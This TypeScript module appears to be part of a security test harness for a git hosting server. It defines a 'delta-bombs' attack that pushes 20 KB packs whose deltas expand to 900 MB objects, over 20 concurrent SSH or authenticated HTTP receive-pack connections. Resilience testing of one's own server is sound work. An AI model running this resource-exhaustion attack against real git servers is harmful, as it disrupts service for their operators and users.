import { deltaBomb } from '../wire/delta-bomb.ts'
import { hammer } from '../wire/hammer.ts'
import { pushOverSsh } from '../wire/push-over-ssh.ts'
import { pushBody, pushHeaders } from '../wire/push-request.ts'
import { requestBytes } from '../wire/request.ts'
import { basic } from '../wire/sender.ts'
import type { Attack } from './attack.ts'

/** What a pack makes when it is unpacked is bounded by nothing that its length tells. */
export const deltaBombs: Attack = {
  name: 'delta-bombs',
  about: 'pushes of 20 KB whose deltas make objects of 900 MB each',
  doors: ['http', 'ssh'],
  roles: ['account'],
  async prepare({ ownRepositories }) {
    await ownRepositories('deltas')
    return {}
  },
  play(play) {
    const pack = deltaBomb({ objects: 20, megabytes: 900 })
    const run = Date.now().toString(36)
    const body = (n: number) => pushBody({ commit: '1'.repeat(40), branch: `d-${run}-${n}`, pack })
    if (play.phase.door === 'ssh') return pushOverSsh(play, { connections: 20, repository: 'deltas', body })
    return hammer(play, {
      connections: 20,
      request: (sender, n) =>
        requestBytes({
          method: 'POST',
          path: `/${sender.account?.username}/deltas.git/git-receive-pack`,
          headers: { ...pushHeaders, ...basic(sender) },
          body: body(n),
        }),
    })
  },
}
